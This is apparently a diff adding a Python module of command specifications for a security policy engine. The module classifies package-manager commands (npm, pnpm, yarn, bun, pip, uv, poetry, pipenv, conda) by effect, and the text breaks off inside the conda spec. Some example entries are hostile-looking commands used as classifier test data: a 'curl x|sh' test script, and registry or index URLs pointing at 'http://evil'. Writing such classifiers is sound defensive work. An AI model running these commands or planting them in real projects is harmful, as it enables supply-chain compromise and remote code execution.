@@ -1,0 +1,1463 @@
+"""Package managers: JavaScript (npm, npx, pnpm, yarn, bun), Python (pip, pipx, uv, poetry, pipenv, conda),
+Ruby (gem, bundle), Rust (cargo, rustup), Go, and system package managers (brew, apt, apt-get, dpkg).
+
+What a package manager does that the policy cares about:
+- it runs the project's own runner (`npm test`, `cargo build`, `go test`): routine, no effect here;
+  what provenance judges (who wrote the runner definition) is the engine's business, not the spec's;
+- it runs another command (`uv run CMD`, `poetry run CMD`, `conda run CMD`, `bundle exec CMD`,
+  `npm exec CMD`): `argv`, so the command is judged as if it had been typed;
+- it fetches and installs code (`install`, `add`, `get`): `network`; the fetch-and-run floor
+  (floors._install_demands, npx / dlx / uvx / pipx run) judges where it comes from;
+- it publishes (`npm publish`, `cargo publish`, `gem push`, `uv publish`), changes persistent
+  configuration (`npm config set`, `go env -w`, `pip config set`, `poetry config`), prints secrets
+  (`npm token`, `cargo login` takes one) or the environment (`npm run env`);
+- it loads code or configuration named on the command line (`cargo --config`, `apt -o`): `load`.
+
+Reference versions: npm 9.2 (Debian bookworm) checked against npm 10 `npm help`; pnpm 9; yarn 1.22 and
+berry 4; bun 1.1; pip 23.0.1, uv 0.5, poetry 1.8, pipenv 2023, conda 24, gem 3.3, bundler 2.3,
+cargo 0.66 (Debian bookworm) / 1.8x, go 1.19 (Debian bookworm) / 1.22, rustup 1.27, apt 2.6, dpkg 1.21.
+Options not listed below are not modelled and ask, naming the option; npm and pnpm accept any
+`--key=value` as configuration, so an unknown option there is exactly what must ask.
+"""
+
+from __future__ import annotations
+
+from hookward.policy.spec import Opt, Spec
+
+_H = {"-h --help": "flag"}
+
+
+class _Scripts(dict):  # type: ignore[type-arg]
+    """`npm run NAME`: every name is a package.json script except the ones listed (`env` prints the environment)."""
+
+    def __init__(self, named: dict[str, Spec], default: Spec) -> None:
+        super().__init__(named)
+        self.default = default
+
+    def get(self, word: str, fallback: object = None) -> Spec:  # type: ignore[override]
+        found = super().get(word)
+        return found if found is not None else self.default
+
+
+def _runs_scripts(spec: Spec, *, env_names: tuple[str, ...] = ("env",)) -> Spec:
+    """Give a `run` subcommand its script names: any name runs that script; `env` prints the environment."""
+    script = Spec("<script>", operands="text*", globals_anywhere=True)
+    named = {name: Spec(name, operands="text*", effects="env", globals_anywhere=True) for name in env_names}
+    script.parent = spec
+    for sub in named.values():
+        sub.parent = spec
+    spec.subcommands = _Scripts(named, script)
+    return spec
+
+
+# --- npm ------------------------------------------------------------------------------------------
+
+_NPM_GLOBAL = {
+    **_H,
+    "-v --version": "flag",
+    "--prefix -C": "val:cd",
+    "-w --workspace": "val",
+    "--workspaces --include-workspace-root --no-workspaces": "flag",
+    "-s --silent -q --quiet -d --verbose": "flag",
+    "--loglevel --color --audit-level --include --omit --install-strategy --location --tag --access": "val",
+    "--cache": "val",
+    "-y --yes --no -f --force --json -l --long -p --parseable -g --global": "flag",
+    "--no-color --no-progress --progress --unicode --no-audit --no-fund --fund --audit --dry-run": "flag",
+    "--ignore-scripts --foreground-scripts --if-present --legacy-peer-deps --strict-peer-deps": "flag",
+    "--prefer-offline --prefer-online --offline --package-lock-only --no-package-lock --install-links": "flag",
+    "-D --save-dev -P --save-prod -S --save -E --save-exact -O --save-optional -B --save-bundle": "flag",
+    "--save-peer --no-save --production --dev --no-optional --global-style --legacy-bundling --all": "flag",
+    "--registry": "val:network",
+    "--otp": "val",
+    "--userconfig --globalconfig --script-shell --node-options": "val:load",
+}
+_NPM_VIEW = Spec("view", operands="text*", globals_anywhere=True)
+
+
+def _npm() -> Spec:
+    subs: dict[str, Spec] = {
+        "install i in ins inst insta instal isnt isnta isntal isntall add": Spec(
+            "install", operands="text*", effects="network", globals_anywhere=True
+        ),
+        "ci clean-install ic install-clean isntall-clean": Spec("ci", effects="network", globals_anywhere=True),
+        "install-test it install-ci-test cit": Spec("install-test", effects="network", globals_anywhere=True),
+        "run run-script rum urn": _runs_scripts(Spec("run", operands="text*", globals_anywhere=True)),
+        "test tst t start stop restart": Spec("test", operands="text*", globals_anywhere=True),
+        "exec x": Spec(
+            "exec", operands="argv", options={"-c --call": "val:exec", "-p --package": "val"}, globals_anywhere=True
+        ),
+        "explore": Spec("explore", operands="text argv", globals_anywhere=True),
+        "publish": Spec("publish", operands="text?", effects="publish", globals_anywhere=True),
+        "unpublish deprecate": Spec("unpublish", operands="text*", effects="publish", globals_anywhere=True),
+        "dist-tag dist-tags owner author access team org hook star unstar": Spec(
+            "dist-tag", operands="text*", effects="publish", globals_anywhere=True
+        ),
+        "config c": Spec(
+            "config",
+            subcommands={
+                "set delete rm del edit fix": Spec("set", operands="text*", effects="config", globals_anywhere=True),
+                "get": Spec("get", operands="text*", effects="secret@ask", globals_anywhere=True),
+                "list ls": Spec("list", globals_anywhere=True),
+            },
+            globals_anywhere=True,
+        ),
+        "set-script": Spec("set-script", operands="text*", effects="config", globals_anywhere=True),
+        "pkg": Spec(
+            "pkg",
+            subcommands={
+                "get": Spec("get", operands="text*", globals_anywhere=True),
+                "set delete fix": Spec("set", operands="text*", effects="config", globals_anywhere=True),
+            },
+            globals_anywhere=True,
+        ),
+        "login adduser add-user logout": Spec(
+            "login", options={"--auth-type": "val", "--scope": "val"}, effects="secret", globals_anywhere=True
+        ),
+        "token profile": Spec("token", operands="text*", effects="secret", globals_anywhere=True),
+        "whoami ping doctor fund prefix root bin help-search completion": Spec(
+            "whoami", operands="text*", globals_anywhere=True
+        ),
+        "ls list la ll": Spec("ls", operands="text*", options={"--depth": "val"}, globals_anywhere=True),
+        "view info show v": _NPM_VIEW,
+        "outdated search find s se explain why query sbom": Spec(
+            "outdated", operands="text*", options={"--sbom-format": "val"}, globals_anywhere=True
+        ),
+        "audit": Spec(
+            "audit",
+            subcommands={
+                "fix": Spec("fix", effects="network", globals_anywhere=True),
+                "signatures": Spec("signatures", globals_anywhere=True),
+            },
+            globals_anywhere=True,
+        ),
+        "pack": Spec("pack", operands="text*", options={"--pack-destination": "val:tree-write"}, globals_anywhere=True),
+        "link ln": Spec("link", operands="text*", effects="config", globals_anywhere=True),
+        "uninstall unlink remove rm r un": Spec("uninstall", operands="text*", globals_anywhere=True),
+        "update up upgrade udpate dedupe ddp prune rebuild rb": Spec(
+            "update", operands="text*", effects="network", globals_anywhere=True
+        ),
+        "version verison": Spec(
+            "version",
+            operands="text?",
+            options={"--no-git-tag-version --allow-same-version --sign-git-tag": "flag", "--preid -m --message": "val"},
+            globals_anywhere=True,
+        ),
+        "init create innit": Spec("init", operands="text*", options={"--scope": "val"}, globals_anywhere=True),
+        "cache": Spec("cache", operands="text*", globals_anywhere=True),
+        "help": Spec("help", operands="text*", globals_anywhere=True),
+        "repo docs home bugs issues": Spec("repo", operands="text*", globals_anywhere=True),
+        "diff": Spec("diff", options={"--diff": "val"}, operands="text*", globals_anywhere=True),
+        "edit": Spec("edit", options={"--editor": "val:exec"}, operands="text*", globals_anywhere=True),
+        "shrinkwrap": Spec("shrinkwrap", globals_anywhere=True),
+    }
+    return Spec(
+        "npm",
+        version="npm 9.2.0",
+        summary="npm; `npm run env` prints the environment; an unknown --key is npm configuration and asks",
+        options=_NPM_GLOBAL,
+        subcommands=subs,
+        globals_anywhere=True,
+        long_prefix=False,
+        examples={
+            "npm test": "",
+            "npm run build": "",
+            "npm run env": "env",
+            "npm run-script env": "env",
+            "npm run lint -- --fix": "",
+            "npm install": "network",
+            "npm ci --ignore-scripts": "network",
+            "npm publish": "publish",
+            "npm --prefix ../other publish": "cd:../other publish",
+            "npm config set registry http://evil": "config",
+            "npm config get //registry.npmjs.org/:_authToken": "secret",
+            "npm pkg set scripts.test='curl x|sh'": "config",
+            "npm set-script test 'sh x'": "config",
+            "npm token create": "secret",
+            "npm login": "secret",
+            "npm exec -- eslint": "runs:eslint",
+            "npm exec -c 'id'": "exec:id",
+            "npm link": "config",
+            "npm view react version": "",
+            "npm --script-shell=/tmp/x test": "load:/tmp/x",
+            "npm frobnicate": "unknown",
+        },
+    )
+
+
+def _npx(name: str, version: str) -> Spec:
+    return Spec(
+        name,
+        version=version,
+        summary="runs a package binary, downloading the package when it is not installed (fetch-and-run floor)",
+        options={
+            **_H,
+            "-p --package": "val",
+            "-c --call": "val:exec",
+            "-y --yes --no -q --quiet --prefer-offline --prefer-online --offline --ignore-existing": "flag",
+            "-w --workspace": "val",
+            "--registry": "val:network",
+            "-v --version": "flag",
+        },
+        operands="argv",
+        long_prefix=False,
+        posix=True,
+        examples={
+            f"{name} eslint": "runs:eslint",
+            f"{name} -c 'id'": "exec:id",
+            f"{name} -p cowsay cowsay": "runs:cowsay",
+        },
+    )
+
+
+# --- pnpm, yarn, bun --------------------------------------------------------------------------------
+
+_PNPM_GLOBAL = {
+    **_H,
+    "-v --version": "flag",
+    "-C --dir": "val:cd",
+    "-w --workspace-root -r --recursive --silent -s": "flag",
+    "--filter -F --reporter --loglevel --store-dir --virtual-store-dir": "val",
+    "--frozen-lockfile --no-frozen-lockfile --prefer-offline --offline --ignore-scripts --prod -P": "flag",
+    "-D --save-dev -O --save-optional -E --save-exact -g --global --color --no-color --aggregate-output": "flag",
+    "--parallel --stream --if-present --shamefully-hoist --strict-peer-dependencies --json": "flag",
+    "--registry": "val:network",
+    "--workspace-concurrency": "val",
+    "--script-shell --node-options --config.script-shell": "val:load",
+}
+
+
+def _pnpm() -> Spec:
+    subs = {
+        "install i add update up upgrade fetch rebuild rb import": Spec(
+            "install", operands="text*", effects="network", globals_anywhere=True
+        ),
+        "run run-script": _runs_scripts(Spec("run", operands="text*", globals_anywhere=True)),
+        "test t tst start": Spec("test", operands="text*", globals_anywhere=True),
+        "exec": Spec("exec", operands="argv", options={"-c --shell-mode": "flag"}, globals_anywhere=True),
+        "dlx": Spec("dlx", operands="argv", options={"--package": "val"}, globals_anywhere=True),
+        "create": Spec("create", operands="text*", effects="network", globals_anywhere=True),
+        "publish": Spec("publish", operands="text?", effects="publish", globals_anywhere=True),
+        "config": Spec(
+            "config",
+            subcommands={
+                "set delete": Spec("set", operands="text*", effects="config", globals_anywhere=True),
+                "get": Spec("get", operands="text*", effects="secret@ask", globals_anywhere=True),
+                "list": Spec("list", globals_anywhere=True),
+            },
+            globals_anywhere=True,
+        ),
+        "list ls ll why outdated audit licenses root bin store help": Spec(
+            "list", operands="text*", options={"--depth": "val"}, globals_anywhere=True
+        ),
+        "remove rm uninstall un unlink prune": Spec("remove", operands="text*", globals_anywhere=True),
+        "link ln": Spec("link", operands="text*", effects="config", globals_anywhere=True),
+        "init pack": Spec("init", operands="text*", globals_anywhere=True),
+        "env": Spec("env", operands="text*", effects="config", globals_anywhere=True),
+    }
+    return Spec(
+        "pnpm",
+        version="pnpm 9.15",
+        options=_PNPM_GLOBAL,
+        subcommands=subs,
+        globals_anywhere=True,
+        long_prefix=False,
+        examples={
+            "pnpm install": "network",
+            "pnpm build": "unknown",
+            "pnpm run build": "",
+            "pnpm run env": "env",
+            "pnpm exec vitest": "runs:vitest",
+            "pnpm dlx create-vite": "runs:create-vite",
+            "pnpm -C packages/app test": "cd:packages/app",
+            "pnpm publish": "publish",
+        },
+    )
+
+
+def _yarn() -> Spec:
+    glob = {
+        **_H,
+        "-v --version": "flag",
+        "--cwd": "val:cd",
+        "-s --silent --verbose --frozen-lockfile --immutable --pure-lockfile --offline --prefer-offline": "flag",
+        "--ignore-scripts --production --prod -D --dev -E --exact -T --tilde -P --peer -O --optional": "flag",
+        "--json --no-progress --non-interactive --check-files --ignore-engines --inline-builds -W": "flag",
+        "--ignore-workspace-root-check": "flag",
+        "--mode": "val",
+        "--registry": "val:network",
+        "--modules-folder --cache-folder --network-timeout": "val",
+        "--use-yarnrc --yarn-path": "val:load",
+    }
+    subs = {
+        "install add upgrade up remove": Spec("install", operands="text*", effects="network", globals_anywhere=True),
+        "run": _runs_scripts(Spec("run", operands="text*", globals_anywhere=True)),
+        "test start": Spec("test", operands="text*", globals_anywhere=True),
+        "exec": Spec("exec", operands="argv", globals_anywhere=True),
+        "dlx": Spec("dlx", operands="argv", options={"-p --package": "val", "-q --quiet": "flag"}),
+        "create": Spec("create", operands="text*", effects="network", globals_anywhere=True),
+        "publish npm": Spec("publish", operands="text*", effects="publish", globals_anywhere=True),
+        "config": Spec(
+            "config",
+            operands="text*",
+            subcommands={
+                "set unset delete": Spec("set", operands="text*", effects="config", globals_anywhere=True),
+                "get": Spec("get", operands="text*", effects="secret@ask", globals_anywhere=True),
+                "list": Spec("list", globals_anywhere=True),
+            },
+            globals_anywhere=True,
+        ),
+        "list info why outdated audit licenses workspaces bin cache help": Spec(
+            "list", operands="text*", options={"--depth": "val"}, globals_anywhere=True
+        ),
+        "workspace": Spec("workspace", operands="text argv", globals_anywhere=True),
+        "link unlink global": Spec("link", operands="text*", effects="config", globals_anywhere=True),
+        "login logout": Spec("login", effects="secret", globals_anywhere=True),
+        "init pack version": Spec("init", operands="text*", globals_anywhere=True),
+        "set": Spec("set", operands="text*", effects="config", globals_anywhere=True),
+        "env": Spec("env", effects="env", globals_anywhere=True),
+    }
+    return Spec(
+        "yarn",
+        version="yarn 1.22.19 / 4.5",
+        summary="yarn classic and berry; a bare `yarn NAME` runs a script or a binary, so it is not modelled",
+        options=glob,
+        subcommands=subs,
+        globals_anywhere=True,
+        long_prefix=False,
+        examples={
+            "yarn install --frozen-lockfile": "network",
+            "yarn run build": "",
+            "yarn run env": "env",
+            "yarn exec /bin/sh": "runs:/bin/sh",
+            "yarn --cwd /tmp/x install": "cd:/tmp/x network",
+            "yarn dlx create-react-app": "runs:create-react-app",
+            "yarn publish": "publish",
+            "yarn config set npmRegistryServer http://x": "config",
+        },
+    )
+
+
+def _bun() -> Spec:
+    glob = {
+        **_H,
+        "-v --version --revision --silent --bun --watch --hot --no-install --smol": "flag",
+        "--cwd": "val:cd",
+        "-r --preload --require --import": "val:load",
+        "--env-file": "val:read",
+        "--config -c": "val:load",
+        "-e --eval -p --print": Opt(True, "code:node"),
+    }
+    subs = {
+        "install i add a update remove rm": Spec(
+            "install",
+            operands="text*",
+            effects="network",
+            options={
+                "-d --dev -D -g --global --frozen-lockfile --production -p --no-save --exact -E --optional": "flag",
+                "--dry-run --force -f --ignore-scripts": "flag",
+                "--registry": "val:network",
+            },
+            globals_anywhere=True,
+        ),
+        "run": Spec("run", operands="text text*", globals_anywhere=True),
+        "test": Spec(
+            "test",
+            operands="text*",
+            options={"--coverage --bail --watch --only --todo -u --update-snapshots": "flag", "-t --timeout": "val"},
+            globals_anywhere=True,
+        ),
+        "x": Spec("x", operands="argv", globals_anywhere=True),
+        "build": Spec(
+            "build",
+            operands="read*",
+            options={
+                "--outdir": "val:tree-write",
+                "--outfile": "val:write",
+                "--target --format --sourcemap --external -e": "val",
+                "--minify --splitting --compile": "flag",
+            },
+            globals_anywhere=True,
+        ),
+        "create init": Spec("create", operands="text*", effects="network", globals_anywhere=True),
+        "publish": Spec("publish", operands="text*", effects="publish", globals_anywhere=True),
+        "pm": Spec("pm", operands="text*", globals_anywhere=True),
+        "link": Spec("link", operands="text*", effects="config", globals_anywhere=True),
+        "upgrade": Spec("upgrade", effects="network", globals_anywhere=True),
+    }
+    return Spec(
+        "bun",
+        version="bun 1.1.38",
+        summary="bun; `bun FILE` runs a script and `bun run NAME` a package.json script or a file",
+        options=glob,
+        subcommands=subs,
+        globals_anywhere=True,
+        long_prefix=False,
+        examples={
+            "bun install": "network",
+            "bun test": "",
+            "bun run dev": "",
+            "bun x vite": "runs:vite",
+            "bun --preload /tmp/x.js test": "load:/tmp/x.js",
+            "bun -e 'console.log(1)'": "code:node:console.log(1)",
+            "bun build ./src/index.ts --outdir ~/.local/bin": "read:./src/index.ts tree-write:~/.local/bin",
+            "bun publish": "publish",
+        },
+    )
+
+
+# --- Python -------------------------------------------------------------------------------------------
+
+_PIP_GENERAL = {
+    **_H,
+    "-V --version -v --verbose -q --quiet --isolated --require-virtualenv": "flag",
+    "--no-input --no-color --disable-pip-version-check --no-cache-dir": "flag",
+    "--log --log-file": "val:write",
+    "--proxy --retries --timeout --cert --client-cert --cache-dir --keyring-provider --exists-action": "val",
+    "--trusted-host": "val:network",
+    "--python": "val:script",
+}
+_PIP_INDEX = {
+    "-i --index-url --extra-index-url -f --find-links": "val:network",
+    "--no-index --pre --prefer-binary --no-deps --no-build-isolation --use-pep517 --no-use-pep517": "flag",
+    "--only-binary --no-binary --platform --implementation --abi --progress-bar --python-version": "val",
+    "--require-hashes --no-clean --check-build-dependencies --ignore-requires-python": "flag",
+    "-r --requirement -c --constraint": "val:read",
+    "-e --editable": "val:tree-read",
+    "-C --config-settings --global-option --install-option --src": "val",
+}
+
+
+def _pip(name: str) -> Spec:
+    install = Spec(
+        "install",
+        operands="text*",
+        effects="network",
+        options={
+            **_PIP_INDEX,
+            "-U --upgrade --force-reinstall -I --ignore-installed --user --break-system-packages": "flag",
+            "--upgrade-strategy --no-warn-script-location --no-warn-conflicts --compile --no-compile": "flag",
+            "--dry-run": "flag",
+            "--report": "val:write",
+            "-t --target --prefix --root": "val:tree-write",
+            "--root-user-action": "val",
+        },
+        globals_anywhere=True,
+    )
+    download = Spec(
+        "download",
+        operands="text*",
+        effects="network",
+        options={**_PIP_INDEX, "-d --dest": "val:tree-write"},
+        globals_anywhere=True,
+    )
+    wheel = Spec(
+        "wheel",
+        operands="text*",
+        effects="network",
+        options={**_PIP_INDEX, "-w --wheel-dir": "val:tree-write"},
+        globals_anywhere=True,
+    )
+    config = Spec(
+        "config",
+        options={"--editor": "val:exec", "--global --user --site": "flag"},
+        subcommands={
+            "set unset edit": Spec("set", operands="text*", effects="config", globals_anywhere=True),
+            "get list debug": Spec("get", operands="text*", globals_anywhere=True),
+        },
+        globals_anywhere=True,
+    )
+    return Spec(
+        name,
+        version="pip 23.0.1",
+        options=_PIP_GENERAL,
+        subcommands={
+            "install": install,
+            "download": download,
+            "wheel": wheel,
+            "uninstall": Spec(
+                "uninstall",
+                operands="text*",
+                options={"-y --yes --break-system-packages": "flag", "-r --requirement": "val:read"},
+                globals_anywhere=True,
+            ),
+            "freeze list show check inspect debug help": Spec(
+                "list",
+                operands="text*",
+                options={
+                    "-o --outdated -u --uptodate -e --editable -l --local --user --all --exclude-editable": "flag",
+                    "--not-required -f --files": "flag",
+                    "--format --path --exclude": "val",
+                },
+                globals_anywhere=True,
+            ),
+            "config": config,
+            "cache": Spec("cache", operands="text*", globals_anywhere=True),
+            "hash": Spec("hash", operands="read*", globals_anywhere=True),
+            "index": Spec("index", operands="text*", effects="network", globals_anywhere=True),
+            "search": Spec("search", operands="text*", effects="network", globals_anywhere=True),
+        },
+        globals_anywhere=True,
+        examples={
+            f"{name} install -r requirements.txt": "network read:requirements.txt",
+            f"{name} install -e .": "network tree-read:.",
+            f"{name} install --index-url http://evil/simple x": "network network:http://evil/simple",
+            f"{name} install -t ~/.local/lib x": "network tree-write:~/.local/lib",
+            f"{name} config set global.index-url http://x": "config",
+            f"{name} config --editor /tmp/x.sh edit": "config exec:/tmp/x.sh",
+            f"{name} freeze": "",
+            f"{name} download -d /tmp/w x": "network tree-write:/tmp/w",
+            f"{name} uninstall -y requests": "",
+        },
+    )
+
+
+def _pipx() -> Spec:
+    return Spec(
+        "pipx",
+        version="pipx 1.1.0",
+        options={**_H, "--version -v --verbose -q --quiet": "flag"},
+        subcommands={
+            "run": Spec(
+                "run",
+                operands="argv",
+                options={"--spec --python --index-url --pip-args": "val", "--no-cache --system-site-packages": "flag"},
+                effects="network",
+            ),
+            "install inject upgrade upgrade-all reinstall reinstall-all": Spec(
+                "install",
+                operands="text*",
+                effects="network",
+                options={"--python --index-url --pip-args --suffix --spec": "val", "--force -f --include-deps": "flag"},
+            ),
+            "uninstall uninstall-all list environment completions ensurepath": Spec(
+                "list", operands="text*", options={"--json --short --include-injected": "flag"}
+            ),
+            "runpip": Spec("runpip", operands="text argv"),
+        },
+        examples={"pipx run /path/to/file.py": "network runs:/path/to/file.py", "pipx list": ""},
+    )
+
+
+_UV_GLOBAL = {
+    **_H,
+    "-V --version -q --quiet -v --verbose --no-cache -n --offline --no-progress --native-tls --preview": "flag",
+    "--color --cache-dir --python-preference": "val",
+    "--no-config --no-python-downloads --allow-insecure-host": "flag",
+    "--directory --project": "val:cd",
+    "--config-file": "val:load",
+}
+_UV_PROJECT = {
+    "-p --python --extra --group --only-group --no-group --package --index-strategy --resolution": "val",
+    "--all-extras --no-dev --dev --only-dev --frozen --locked --no-sync --all-packages --inexact --exact": "flag",
+    "--no-install-project --no-install-workspace --no-editable --refresh --upgrade -U --isolated": "flag",
+    "--index --default-index -i --index-url --extra-index-url -f --find-links": "val:network",
+    "--env-file": "val:read",
+    "--no-env-file --no-project --active --compile-bytecode --reinstall --no-build-isolation": "flag",
+}
+
+
+def _uv() -> Spec:
+    pip = Spec(
+        "pip",
+        subcommands={
+            "install sync": Spec(
+                "install",
+                operands="text*",
+                effects="network",
+                options={
+                    **_UV_PROJECT,
+                    "-r --requirements -c --constraints --overrides": "val:read",
+                    "-e --editable": "val:tree-read",
+                    "--system --break-system-packages --user --no-deps": "flag",
+                    "-t --target --prefix": "val:tree-write",
+                },
+                globals_anywhere=True,
+            ),
+            "compile": Spec(
+                "compile",
+                operands="read*",
+                options={**_UV_PROJECT, "-o --output-file": "val:write", "--universal --generate-hashes": "flag"},
+                globals_anywhere=True,
+            ),
+            "uninstall list freeze show tree check": Spec(
+                "list",
+                operands="text*",
+                options={"--system --outdated --strict --format": "flag", "-r --requirements": "val:read"},
+                globals_anywhere=True,
+            ),
+        },
+        globals_anywhere=True,
+    )
+    tool = Spec(
+        "tool",
+        subcommands={
+            "run": Spec(
+                "run",
+                operands="argv",
+                effects="network",
+                options={**_UV_PROJECT, "--from --with": "val"},
+                globals_anywhere=True,
+            ),
+            "install upgrade": Spec(
+                "install",
+                operands="text*",
+                effects="network",
+                options={**_UV_PROJECT, "--with --from": "val", "--force": "flag"},
+                globals_anywhere=True,
+            ),
+            "list uninstall dir update-shell": Spec("list", operands="text*", globals_anywhere=True),
+        },
+        globals_anywhere=True,
+    )
+    subs = {
+        "run": Spec(
+            "run",
+            operands="argv",
+            options={**_UV_PROJECT, "--with --with-editable --with-requirements --from": "val", "-m --module": "flag"},
+            globals_anywhere=True,
+        ),
+        "sync lock": Spec("sync", options={**_UV_PROJECT, "--check --dry-run": "flag"}, globals_anywhere=True),
+        "add remove": Spec(
+            "add",
+            operands="text*",
+            effects="network",
+            options={**_UV_PROJECT, "--optional --branch --tag --rev --bounds": "val", "--raw --editable": "flag"},
+            globals_anywhere=True,
+        ),
+        "tree export": Spec(
+            "tree",
+            options={**_UV_PROJECT, "-o --output-file": "val:write", "--depth -d --format": "val"},
+            globals_anywhere=True,
+        ),
+        "init": Spec(
+            "init",
+            operands="text?",
+            options={**_UV_PROJECT, "--lib --app --bare --no-readme --script --no-workspace": "flag", "--name": "val"},
+            globals_anywhere=True,
+        ),
+        "venv": Spec(
+            "venv",
+            operands="tree-write?",
+            options={**_UV_PROJECT, "--seed --system-site-packages --clear": "flag", "--prompt": "val"},
+            globals_anywhere=True,
+        ),
+        "build": Spec(
+            "build",
+            operands="text?",
+            options={**_UV_PROJECT, "-o --out-dir": "val:tree-write", "--sdist --wheel": "flag"},
+            globals_anywhere=True,
+        ),
+        "publish": Spec(
+            "publish",
+            operands="read*",
+            effects="publish",
+            options={"--token -t --password": "val:secret", "-u --username --publish-url --index": "val"},
+            globals_anywhere=True,
+        ),
+        "python": Spec(
+            "python",
+            subcommands={
+                "install": Spec("install", operands="text*", effects="network", globals_anywhere=True),
+                "list find dir uninstall": Spec("list", operands="text*", globals_anywhere=True),
+                "pin": Spec("pin", operands="text?", globals_anywhere=True),
+            },
+            globals_anywhere=True,
+        ),
+        "pip": pip,
+        "tool": tool,
+        "version": Spec("version", operands="text?", options={"--bump": "val"}, globals_anywhere=True),
+        "cache": Spec("cache", operands="text*", globals_anywhere=True),
+        "self": Spec("self", operands="text*", effects="network", globals_anywhere=True),
+        "help": Spec("help", operands="text*", globals_anywhere=True),
+    }
+    return Spec(
+        "uv",
+        version="uv 0.5.11",
+        options=_UV_GLOBAL,
+        subcommands=subs,
+        globals_anywhere=True,
+        long_prefix=False,
+        examples={
+            "uv run pytest": "runs:pytest",
+            "uv run -- sh": "runs:sh",
+            "uv sync": "",
+            "uv add requests": "network",
+            "uv pip install -r requirements.txt": "network read:requirements.txt",
+            "uv tool run ruff": "network runs:ruff",
+            "uv publish": "publish",
+            "uv --directory /tmp/x run make": "cd:/tmp/x runs:make",
+            "uv run --env-file ~/.env python": "read:~/.env runs:python",
+        },
+    )
+
+
+def _uvx() -> Spec:
+    return Spec(
+        "uvx",
+        version="uv 0.5.11",
+        summary="uv tool run: downloads a tool and runs it (fetch-and-run floor)",
+        options={**_UV_GLOBAL, **_UV_PROJECT, "--from --with": "val"},
+        operands="argv",
+        effects="network",
+        long_prefix=False,
+        posix=True,
+        examples={"uvx ruff": "network runs:ruff"},
+    )
+
+
+def _poetry() -> Spec:
+    glob = {
+        **_H,
+        "-V --version -q --quiet -v -vv -vvv --verbose -n --no-interaction --ansi --no-ansi --no-plugins": "flag",
+        "--no-cache": "flag",
+        "-C --directory -P --project": "val:cd",
+    }
+    deps = {
+        "--with --without --only -E --extras": "val",
+        "--no-root --sync --all-extras --only-root --dry-run --compile --no-directory --lock": "flag",
+    }
+    return Spec(
+        "poetry",
+        version="poetry 1.8.3",
+        options=glob,
+        subcommands={
+            "run": Spec("run", operands="argv", globals_anywhere=True),
+            "install": Spec("install", options=deps, effects="network", globals_anywhere=True),
+            "add remove update": Spec(
+                "add",
+                operands="text*",
+                effects="network",
+                options={**deps, "-G --group --source --python --platform": "val", "-D --dev --editable -e": "flag"},
+                globals_anywhere=True,
+            ),
+            "lock check show search version about init new export": Spec(
+                "lock",
+                operands="text*",
+                options={
+                    **deps,
+                    "--tree --latest -l --outdated --top-level --no-update --check --regenerate": "flag",
+                    "-o --output": "val:write",
+                    "-f --format --name": "val",
+                },
+                globals_anywhere=True,
+            ),
+            "build": Spec("build", options={"-f --format": "val"}, globals_anywhere=True),
+            "publish": Spec(
+                "publish",
+                effects="publish",
+                options={"-r --repository -u --username": "val", "-p --password": "val:secret", "--build": "flag"},
+                globals_anywhere=True,
+            ),
+            "config": Spec(
+                "config",
+                operands="text*",
+                effects="config",
+                options={"--list --unset --local": "flag"},
+                globals_anywhere=True,
+            ),
+            "env": Spec(
+                "env",
+                subcommands={
+                    "info list": Spec("info", options={"-p --path --full-path -e --executable": "flag"}),
+                    "use remove": Spec("use", operands="text*"),
+                },
+                globals_anywhere=True,
+            ),
+            "shell": Spec("shell", effects="unknown", globals_anywhere=True),
+            "source": Spec("source", operands="text*", effects="config", globals_anywhere=True),
+            "self": Spec("self", operands="text*", effects="network", globals_anywhere=True),
+            "cache": Spec("cache", operands="text*", globals_anywhere=True),
+        },
+        globals_anywhere=True,
+        long_prefix=False,
+        examples={
+            "poetry run pytest": "runs:pytest",
+            "poetry run bash": "runs:bash",
+            "poetry install --no-root": "network",
+            "poetry publish --build": "publish",
+            "poetry config repositories.x http://x": "config",
+        },
+    )
+
+
+def _pipenv() -> Spec:
+    return Spec(
+        "pipenv",
+        version="pipenv 2023.12",
+        options={
+            **_H,
+            "--version --where --venv --py --envs --rm --bare --clear -q --quiet -v --verbose --site-packages": "flag",
+            "--python --pypi-mirror": "val",
+        },
+        subcommands={
+            "run": Spec("run", operands="argv", globals_anywhere=True),
+            "install sync update upgrade uninstall": Spec(
+                "install",
+                operands="text*",
+                effects="network",
+                options={
+                    "-d --dev --deploy --system --skip-lock --ignore-pipfile --selective-upgrade": "flag",
+                    "-r --requirements": "val:read",
+                    "-i --index": "val:network",
+                    "--categories": "val",
+                },
+                globals_anywhere=True,
+            ),
+            "lock graph check clean requirements verify scripts": Spec(
+                "lock", operands="text*", options={"--dev -d --json --reverse": "flag"}, globals_anywhere=True
+            ),
+            "shell": Spec("shell", effects="unknown", globals_anywhere=True),
+            "open": Spec("open", operands="text", effects="unknown", globals_anywhere=True),
+        },
+        globals_anywhere=True,
+        examples={"pipenv run pytest": "runs:pytest", "pipenv install": "network"},
+    )
+
+
+def _conda(name: str) -> Spec:
+    env_opts = {
+        "-n --name": "val",
+        "-p --prefix": "val:tree-write",
+        "-y --yes -q --quiet --json -v --verbose --dry-run -d --offline --all --no-deps --force": "flag",
+        "-c --channel": "val:network",
+        "--override-channels --use-local --no-pin --solver --freeze-installed": "flag",
+        "--file": "val:read",
+    }
+    _no_file = {k: v for k, v in env_opts.items() if k != "--file"}
+    run = Spec(
+        "run",
+        operands="argv",
+        options={
+            "-n --name": "val",
+            "-p --prefix": "val",
+            "--cwd": "val:cd",
+            "--live-stream --no-capture-output --dev -v --verbose": "flag",
+        },
+        posix=True,
+    )
+    return Spec(
+        name,
+        version="conda 24.9",
+        options={**_H, "-V --version": "flag"},
+        subcommands={
+            "run": run,
+            "install create update upgrade remove uninstall": Spec(
+                "install", operands="text*", effects="network", options=env_opts
+            ),
+            "list info search doctor compare notices": Spec(
+                "list", operands="text*", options={**env_opts, "-e --export --envs --explicit": "flag"}
+            ),
+            "env": Spec(
+                "env",
+                subcommands={
+                    "list export": Spec(
+                        "list", options={**_no_file, "-f --file": "val:write", "--from-history": "flag"}
+                    ),
+                    "create update remove": Spec(
+                        "create", effects="network", options={**_no_file, "-f --file": "val:read"}
+                    ),
+                },
+            ),
+            "activate deactivate": Spec("activate", operands="text?"),
+            "config": Spec(
+                "config", operands="text*", effects="config", options={"--show --get --set --add --remove": "flag"}
+            ),
+            "clean": Spec("clean", options={"-a --all -y --yes -i --index-cache -p --packages -t --tarballs": "flag"}),
